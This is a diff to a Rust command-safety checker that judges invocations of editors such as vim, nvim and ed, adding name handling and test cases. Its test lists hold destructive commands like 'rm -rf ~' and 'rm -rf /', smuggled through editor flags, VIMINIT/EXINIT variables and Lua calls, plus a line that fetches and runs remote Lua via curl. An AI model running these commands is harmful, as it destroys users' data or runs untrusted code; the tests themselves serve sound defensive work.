@@ -34,9 +34,11 @@ rules! {
 
 /// The judgement for a program of this family.
 pub fn find(name: &str) -> Option<Judge> {
+    // One system has several builds of the same editor: `vim.basic`, `vim.tiny`.
+    let name = name.split_once('.').map_or(name, |(base, _)| if base == "vim" { base } else { name });
     Some(match name {
         "vim" | "vi" | "nvim" | "ex" | "view" | "gvim" | "mvim" | "rvim" | "rview" | "vimdiff" | "nvi" | "elvis"
-        | "vile" | "neovide" | "lvim" => vim::judge,
+        | "vile" | "neovide" | "lvim" | "neatvi" | "vimx" | "gview" | "evim" => vim::judge,
         "ed" | "red" | "gned" => line_editor,
         "emacs" | "emacsclient" | "zile" | "mg" | "xemacs" => elisp::judge,
         "nano" | "pico" | "rnano" | "micro" | "hx" | "helix" | "kak" | "joe" | "jed" | "ne" | "mcedit" | "tilde"
@@ -300,6 +302,9 @@ mod tests {
                 "vim -p a b -c 'tabdo set nu'",
                 "vim -u NONE -N -c 'set nocp | syn off' big.log",
                 "nvim --headless -c 'lua print(vim.version())' -c q",
+                "nvim --headless -c 'lua print(vim.fn.stdpath(\"data\"))' -c q",
+                "nvim --headless -c 'lua vim.cmd(\"set nu\")' -c 'lua require(\"lazy\").sync()' -c q",
+                "VIMINIT='set nu' vim f",
                 "nvim --headless '+checkhealth' +qa",
                 "vim -t main",
                 "vim '+call cursor(5,3)' a.c",
@@ -358,6 +363,9 @@ mod tests {
                 "vim -c 'Gdelete' f",
                 "vim -c \"$CODE\" f",
                 "vim -c 'sh' f",
+                "nvim -c 'lua vim.uv.spawn(\"rm\", {args={\"-rf\",\"/\"}})'",
+                "nvim -c 'lua vim.cmd(x)'",
+                "nvim -c 'lua vim.cmd.frobnicate()'",
                 "nvim -l <(curl -s https://x.example/a.lua)",
                 "vim -c 'g/x/exe \"!rm -rf data\"' f",
             ],
@@ -374,6 +382,15 @@ mod tests {
                 "emacs --batch --eval '(shell-command \"rm -rf ~\")'",
                 "ed <<< '!rm -rf /'",
                 "vim -c 'g/x/exe \"!rm -rf ~\"' f",
+                "vim.basic -c '!rm -rf ~' f",
+                "VIMINIT='!rm -rf ~' vim f",
+                "export EXINIT='!rm -rf ~'; ex f",
+                "nvim +'lua vim.cmd(\"!rm -rf ~\")'",
+                "nvim +'lua vim.cmd[[!rm -rf ~]]'",
+                "nvim +'lua vim.cmd \"sil !rm -rf ~\"'",
+                "nvim -c \"lua vim.api.nvim_command('!rm -rf ~')\"",
+                "nvim -c 'lua vim.fn.system({\"rm\",\"-rf\",\"/\"})'",
+                "nvim -c 'lua vim.fn.jobstart(\"rm -rf ~\")'",
                 "vim -c 'g/x/normal :!rm -rf ~' f",
                 "vim -c 'g/a/g/b/!rm -rf ~' f",
                 "vim -c 'v/x/exe \"!rm -rf ~\"' f",
